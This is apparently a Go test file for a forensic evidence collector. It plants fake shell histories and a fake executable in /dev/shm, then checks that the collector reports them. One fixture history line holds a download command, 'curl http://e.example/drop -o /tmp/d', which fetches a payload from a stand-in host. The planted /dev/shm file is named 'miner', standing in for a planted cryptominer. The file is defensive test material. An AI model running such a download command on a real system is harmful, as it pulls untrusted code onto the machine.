package linux

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"coldsnap/audit"
	"coldsnap/collectors"
)

func writeExecutionFixture(t *testing.T) string {
	t.Helper()
	root := t.TempDir()

	alice := filepath.Join(root, "home", "alice")
	require.NoError(t, os.MkdirAll(alice, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(alice, ".bash_history"),
		[]byte("ls -la\n\ncurl http://e.example/drop -o /tmp/d\n"), 0o600))

	rootHome := filepath.Join(root, "root")
	require.NoError(t, os.MkdirAll(rootHome, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(rootHome, ".zsh_history"),
		[]byte("systemctl restart sshd\n"), 0o600))

	shm := filepath.Join(root, "dev", "shm")
	require.NoError(t, os.MkdirAll(shm, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(shm, "miner"), []byte("\x7fELF payload"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(shm, "notes.txt"), []byte("plain"), 0o644))

	require.NoError(t, os.MkdirAll(filepath.Join(root, "tmp"), 0o755))
	return root
}

func TestExecutionCollect(t *testing.T) {
	root := writeExecutionFixture(t)
	c := &ExecutionCollector{Root: root}
	rc := collectors.RunContext{Scope: collectors.Scope{}, Log: audit.NewLog()}

	res, err := c.Collect(context.Background(), rc)
	require.NoError(t, err)
	assert.Equal(t, collectors.StatusComplete, res.Status)

	require.Len(t, res.Execution.ShellHistory, 3)
	byUser := make(map[string][]collectors.HistoryEntry)
	for _, h := range res.Execution.ShellHistory {
		byUser[h.User] = append(byUser[h.User], h)
	}
	require.Len(t, byUser["alice"], 2)
	assert.Equal(t, "ls -la", byUser["alice"][0].Command)
	assert.Equal(t, 1, byUser["alice"][0].Position)
	// Blank history lines are not commands; positions stay dense.
	assert.Equal(t, 2, byUser["alice"][1].Position)
	require.Len(t, byUser["root"], 1)
	assert.Equal(t, "systemctl restart sshd", byUser["root"][0].Command)

	// Only the executable file in dev/shm is reported.
	require.Len(t, res.Execution.TempExecutables, 1)
	exe := res.Execution.TempExecutables[0]
	assert.Equal(t, filepath.Join(root, "dev", "shm", "miner"), exe.Path)
	assert.Equal(t, int64(len("\x7fELF payload")), exe.SizeBytes)
	assert.NotEmpty(t, exe.ModifiedUTC)
	require.NotNil(t, exe.SHA256)
	assert.Len(t, *exe.SHA256, 64)
}

func TestExecutionSkipHashes(t *testing.T) {
	root := writeExecutionFixture(t)
	c := &ExecutionCollector{Root: root}
	rc := collectors.RunContext{Scope: collectors.Scope{SkipHashes: true}, Log: audit.NewLog()}

	res, err := c.Collect(context.Background(), rc)
	require.NoError(t, err)
	for _, exe := range res.Execution.TempExecutables {
		assert.Nil(t, exe.SHA256)
	}
}

func TestExecutionOversizedHistoryLineTruncates(t *testing.T) {
	root := t.TempDir()
	rootHome := filepath.Join(root, "root")
	require.NoError(t, os.MkdirAll(rootHome, 0o755))
	histPath := filepath.Join(rootHome, ".bash_history")
	// One command, then a line past the scanner's token limit. The first
	// command must be kept and the aborted read recorded.
	body := "whoami\n" + strings.Repeat("A", 128*1024) + "\nid\n"
	require.NoError(t, os.WriteFile(histPath, []byte(body), 0o600))

	c := &ExecutionCollector{Root: root}
	log := audit.NewLog()
	rc := collectors.RunContext{Scope: collectors.Scope{}, Log: log}

	res, err := c.Collect(context.Background(), rc)
	require.NoError(t, err)
	assert.Equal(t, collectors.StatusTruncated, res.Status)
	require.Len(t, res.Execution.ShellHistory, 1)
	assert.Equal(t, "whoami", res.Execution.ShellHistory[0].Command)

	require.Equal(t, 1, log.CountLevel(audit.LevelWarn))
	warn := log.Entries()[0]
	assert.Equal(t, "execution_evidence", warn.Source)
	assert.Contains(t, warn.Message, histPath)
	assert.Contains(t, warn.Message, "aborted after 1 commands")
}

func TestExecutionEmptyHost(t *testing.T) {
	c := &ExecutionCollector{Root: t.TempDir()}
	rc := collectors.RunContext{Scope: collectors.Scope{}, Log: audit.NewLog()}

	res, err := c.Collect(context.Background(), rc)
	require.NoError(t, err)
	assert.Equal(t, collectors.StatusComplete, res.Status)
	assert.Empty(t, res.Execution.ShellHistory)
	assert.Empty(t, res.Execution.TempExecutables)
}
